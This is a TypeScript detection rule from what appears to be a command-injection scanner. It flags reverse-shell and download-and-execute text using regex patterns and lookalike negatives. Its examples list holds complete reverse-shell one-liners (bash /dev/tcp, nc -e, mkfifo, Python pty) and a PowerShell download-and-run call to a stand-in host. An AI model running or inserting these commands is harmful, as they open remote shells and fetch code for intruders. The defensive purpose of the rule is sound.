import { confidence } from '../../placement/confidence.ts';
import { foundByFirst } from '../../placement/evidence.ts';
import { wordList } from '../../text/words.ts';
import type { ValueRule } from '../rule.ts';

/** Text that joins a shell with a connection, or a download with a shell, wherever it stands. */
export const reverseShell: ValueRule = {
  id: 'cmdi.reverse-shell',
  score: confidence.certain,
  message: 'connects a shell with another machine',
  trigger: {
    literals: [
      [
        ...wordList(
          '/dev/tcp/ /dev/udp/ -enc .download mkfifo |sh |bash sockaddr_in fsockopen',
          'pty.spawn .connect((',
        ),
        ...[' -e', '| sh', '| bash'],
      ],
    ],
  },
  judge: ({ text }) => foundByFirst(text, idioms),
  examples: [
    'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1',
    'nc 192.0.2.7 4444 -e /bin/sh',
    'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.7 1234 >/tmp/f',
    'echo aWQ=|base64 -d|sh',
    'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
    "powershell IEX(New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')",
    `python -c 'import socket,pty;s=socket.socket();s.connect(("192.0.2.7",4444));pty.spawn("/bin/sh")'`,
  ],
  lookalikes: [
    'the device /dev/tcp is missing on this system',
    'use nc -l to listen; see also socat',
    'pipe it | shuffle | print',
    'powershell -ExecutionPolicy is set by the administrator',
    'client.connect((err) => { if (err) throw err; })',
  ],
};

/** Each pattern is one idiom of a shell, PowerShell or an interpreter. */
const idioms: readonly RegExp[] = [
  /\/dev\/(?:tcp|udp)\/[A-Za-z0-9.:[\]${}_-]{1,80}\/\$?[A-Za-z0-9]/i,
  /\b(?:nc|ncat|netcat|nc\.exe|nc\.traditional)\b[^;|&\n]{0,80} -[a-z]{0,6}[ec][a-z]{0,3} ?['"]?(?:\/|cmd|sh\b|bash|powershell)/i,
  /\bbase64 {1,3}(?:-d|-D|--decode)[^;&\n]{0,40}\| {0,3}(?:sudo )?(?:\/[a-z/]{1,20})?(?:ba|z|k|da)?sh\b/i,
  /\bpowershell(?:\.exe)?\b[^\n]{0,120} -e(?:nc|ncodedcommand|c)? {1,3}['"]?[A-Za-z0-9+/=]{16}/i,
  /\.download(?:string|file|data) {0,2}\( {0,2}['"]/i,
  /\b(?:socket\.socket|fsockopen|sockaddr_in|TCPSocket|net\.Socket)\b[^\n]{0,300}(?:\/bin\/(?:ba|z|da)?sh|cmd\.exe|\bsh -i|\bbash -i)/,
  /\bmkfifo {1,3}\/[^\n;|&]{1,60}[;|&][^\n]{0,120}\b(?:nc|ncat|telnet|openssl|sh)\b/,
];
